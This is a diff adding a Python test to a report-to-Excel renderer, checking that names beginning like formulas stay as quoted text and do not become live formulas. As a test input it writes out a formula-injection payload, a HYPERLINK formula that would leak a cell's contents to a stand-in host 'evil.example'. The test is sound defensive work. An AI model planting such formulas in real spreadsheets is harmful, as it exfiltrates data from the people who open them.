@@ -341,3 +341,19 @@ def test_xlsx_closes_with_recipients_and_signer(sheet):
     assert _find(sheet, "KT. CHỦ TỊCH").font.b
     assert _find(sheet, "Nguyễn Văn Sơn").row > _find(sheet, "PHÓ CHỦ TỊCH").row
     assert _find(sheet, "- Số liệu chưa duyệt được đánh dấu *.")
+
+
+def test_xlsx_keeps_text_that_looks_like_a_formula_as_text():
+    # The names in a report come from the catalogue and the unit tree; one that begins like
+    # a formula must not become one in the officer's Excel.
+    doc = quarterly_report()
+    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'
+    doc.tables[1].rows[0].cells[1] = evil
+    doc.tables[1].rows[0].cells[4] = "-"
+    doc.notes.append("@SUM(1+1)")
+    ws = load_workbook(io.BytesIO(render_xlsx(doc))).active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    label = _find(ws, evil)
+    assert label.data_type == "s" and label.quotePrefix is True
+    assert _find(ws, 1037).data_type == "n"  # figures stay numbers
